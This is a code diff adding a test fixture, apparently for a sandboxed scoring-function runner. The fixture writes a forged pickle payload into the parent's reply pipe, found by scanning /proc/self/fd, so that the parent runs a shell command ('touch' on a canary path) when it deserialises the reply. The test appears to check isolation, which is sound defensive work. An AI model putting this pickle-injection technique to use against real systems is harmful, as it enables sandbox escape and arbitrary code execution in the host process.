@@ -113,3 +113,20 @@ def returns_numpy(record, completion):
     import numpy as np
 
     return np.float32(0.25)
+
+
+def forges_the_reply(record, completion):
+    """Writes a pickle that would run a command in the caller straight into the reply pipe."""
+    import struct
+
+    payload = f"cos\nsystem\n(S'touch {record['path']}'\ntR.".encode()
+    stdin_pipe = os.readlink("/proc/self/fd/0")
+    for fd in map(int, os.listdir("/proc/self/fd")):
+        try:
+            link = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            continue
+        if fd > 2 and link.startswith("pipe:") and link != stdin_pipe:
+            os.write(fd, struct.pack("!Q", len(payload)) + payload)
+    time.sleep(5)
+    return 0.0
